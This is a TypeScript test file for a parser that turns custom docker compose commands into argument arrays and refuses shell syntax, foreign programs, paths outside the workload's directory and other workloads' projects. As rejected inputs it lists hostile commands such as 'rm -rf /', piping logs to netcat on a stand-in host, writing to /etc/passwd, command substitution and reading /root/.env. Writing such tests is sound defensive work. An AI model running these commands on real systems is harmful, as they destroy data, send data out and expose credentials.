// A custom compose command becomes an argument array without a shell, or is refused with the
// reason: one refusal per rule.
import t, { type Test } from 'tap';
import { ComposeCommandError, parseComposeCommand } from '../../src/file/index.ts';

const W = '/etc/berth/compose/shop-1a2b/code';
const ok = (command: string, opts = {}) => parseComposeCommand(command, W, opts);

t.test('the compose programs, quoting as a shell would, without one', async t => {
  t.same(ok('docker compose -p shop-1a2b -f docker-compose.yml up -d --build --remove-orphans', { projectName: 'shop-1a2b' }), [
    'docker',
    'compose',
    '-p',
    'shop-1a2b',
    '-f',
    'docker-compose.yml',
    'up',
    '-d',
    '--build',
    '--remove-orphans',
  ]);
  t.same(ok('docker-compose -f "my file.yml" --env-file=./.env up -d'), ['docker-compose', '-f', 'my file.yml', '--env-file=./.env', 'up', '-d']);
  t.same(ok("docker compose -f 'a b.yml' -f sub/dir/c.yml up"), ['docker', 'compose', '-f', 'a b.yml', '-f', 'sub/dir/c.yml', 'up']);
  t.same(ok(`docker stack deploy -c docker-compose.yml --with-registry-auth --prune shop-1a2b`, { projectName: 'shop-1a2b' }), [
    'docker',
    'stack',
    'deploy',
    '-c',
    'docker-compose.yml',
    '--with-registry-auth',
    '--prune',
    'shop-1a2b',
  ]);
  t.same(ok(`docker compose -f ${W}/docker-compose.yml up`), ['docker', 'compose', '-f', `${W}/docker-compose.yml`, 'up'], 'an absolute path inside the directory');
  t.same(ok("docker compose run web echo '$HOME'"), ['docker', 'compose', 'run', 'web', 'echo', '$HOME'], 'single quotes keep a $ literal');
  t.same(ok('  docker compose up  '), ['docker', 'compose', 'up']);
});

const refused = (t: Test, command: string, why: RegExp, opts = {}) => {
  t.throws(() => ok(command, opts), why, command);
  try {
    ok(command, opts);
  } catch (e) {
    t.ok(e instanceof ComposeCommandError && e.message.startsWith('The command is refused: '), 'a ComposeCommandError that says so');
  }
};

t.test('shell syntax is refused, not passed on', async t => {
  refused(t, 'docker compose up && rm -rf /', /shell operator "&&"/);
  refused(t, 'docker compose up; reboot', /shell operator ";"/);
  refused(t, 'docker compose logs | nc evil 1', /shell operator "\|"/);
  refused(t, 'docker compose config > /etc/passwd', /shell operator ">"/);
  refused(t, 'docker compose up &', /shell operator "&"/);
  refused(t, 'docker compose up $(id)', /variable|operator/);
  refused(t, 'docker compose -f *.yml up', /glob pattern/);
  refused(t, 'docker compose up # later', /comment/);
  refused(t, 'docker compose -f $HOME/x.yml up', /variable \$HOME/);
  refused(t, 'docker compose run web `id`', /backquote/);
  refused(t, 'docker compose up\nreboot', /several lines/);
  refused(t, '', /empty/);
  refused(t, `docker compose up ${'x'.repeat(5000)}`, /longer than 4096/);
});

t.test('the program must be the compose program', async t => {
  refused(t, 'rm -rf /', /must start with "docker compose", "docker-compose" or "docker stack deploy"/);
  refused(t, 'docker run --privileged busybox', /must start with/);
  refused(t, 'docker --host tcp://x compose up', /must start with/);
  refused(t, '/usr/bin/docker-compose up', /must start with/);
  refused(t, 'docker stack rm other', /only run "docker stack deploy"/);
});

t.test("flags that name files stay inside the workload's directory", async t => {
  refused(t, 'docker compose -f ../other/docker-compose.yml up', /--file names "..\/other\/docker-compose.yml", which is outside/);
  refused(t, 'docker compose -f /etc/passwd up', /outside the workload's directory/);
  refused(t, 'docker compose --file=../../x.yml up', /--file names/);
  refused(t, 'docker compose -f../x.yml up', /--file names "..\/x.yml"/);
  refused(t, 'docker compose --env-file /root/.env up', /--env-file names "\/root\/.env"/);
  refused(t, 'docker compose --project-directory / up', /--project-directory names "\/"/);
  refused(t, `docker compose -f ${W}/../../x.yml up`, /outside/);
  refused(t, `docker compose -f ${W}-evil/x.yml up`, /outside/);
  refused(t, 'docker stack deploy -c ../x.yml shop-1a2b', /--compose-file names/);
  refused(t, 'docker stack deploy --compose-file=/x.yml shop-1a2b', /--compose-file names/);
  refused(t, 'docker compose -f', /-f needs a value/);
});

t.test("the project and the stack cannot be another workload's", async t => {
  refused(t, 'docker compose -p someone-else down -v', /-p names the project "someone-else"; this workload's project is "shop-1a2b"/, { projectName: 'shop-1a2b' });
  refused(t, 'docker compose --project-name=x up', /--project-name names the project "x"/, { projectName: 'shop-1a2b' });
  refused(t, 'docker stack deploy -c docker-compose.yml someone-else', /deploys the stack "someone-else"/, { projectName: 'shop-1a2b' });
  t.throws(() => parseComposeCommand('docker compose up', 'relative/dir'), /absolute path/);
});
